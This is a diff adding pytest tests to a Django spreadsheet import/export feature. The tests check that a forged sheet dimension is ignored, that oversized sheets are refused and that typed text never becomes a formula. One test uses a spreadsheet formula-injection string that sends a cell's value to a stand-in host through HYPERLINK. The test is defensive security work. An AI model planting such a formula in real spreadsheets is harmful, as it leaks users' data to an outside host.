@@ -803,3 +803,60 @@ def test_an_import_costs_a_few_queries_whatever_its_rows(
     with django_assert_max_num_queries(22):  # about 16 queries per row before
         job = upload(filer, data)
     assert (job.status, job.created, job.total_rows) == (ImportStatus.DONE, 19, 20)
+
+
+# --- what the file says about itself is not trusted -------------------------------------------
+
+
+def _with_dimension(data: bytes, ref: str) -> bytes:
+    """The workbook with its sheet's <dimension> rewritten to claim ``ref``."""
+    import re
+
+    with zipfile.ZipFile(io.BytesIO(data)) as source:
+        sheet = source.read("xl/worksheets/sheet1.xml")
+    sheet = re.sub(rb'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>'.encode(), sheet)
+    return rezip(data, {"xl/worksheets/sheet1.xml": sheet})
+
+
+def test_a_dimension_claiming_fewer_rows_drops_none(people, county):
+    data = fill(template(people), {county["a"].pk: GOOD, county["b"].pk: GOOD})
+    job = upload(people["county_filer"], _with_dimension(data, "A1:N4"))
+    assert job.status == ImportStatus.DONE and job.created == 2
+
+
+def test_a_dimension_claiming_a_million_rows_is_read_quickly(people, county):
+    data = fill(template(people), {county["a"].pk: GOOD})
+    start = time.perf_counter()
+    job = upload(people["county_filer"], _with_dimension(data, "A1:XFD1048576"))
+    assert time.perf_counter() - start < 10
+    assert job.status == ImportStatus.DONE and job.created == 1
+
+
+def test_a_sheet_with_too_many_rows_even_blank_is_refused(people, county, settings):
+    settings.PROGRESS_IMPORT_MAX_ROWS = 5
+
+    def far_row(workbook):
+        workbook[xlsx.SHEET].cell(
+            row=xlsx.FIRST_ROW + 5 + xlsx.BLANK_ROWS_ALLOWED + 2, column=2, value="x"
+        )
+
+    data = fill(template(people), {county["a"].pk: GOOD}, edit=far_row)
+    assert "含空行" in refused(people["county_filer"], data)
+
+
+def test_typed_text_never_becomes_a_formula_in_downloads(people, county):
+    text = '=HYPERLINK("http://example.invalid/?"&E4,"详见")'
+    services.report_save(
+        project=county["a"],
+        period=PERIOD,
+        by=people["county_filer"],
+        investment_this_month="10",
+        physical_progress=text,
+        problems="-1+1",
+    )
+    _workbook, sheet = sheet_of(template(people))
+    row = rows_by_project(sheet)[county["a"].pk]
+    for key in ("physical_progress", "problems"):
+        cell = sheet[f"{LETTER[key]}{row}"]
+        assert cell.data_type == "s", key
+    assert sheet[f"{LETTER['physical_progress']}{row}"].value == text
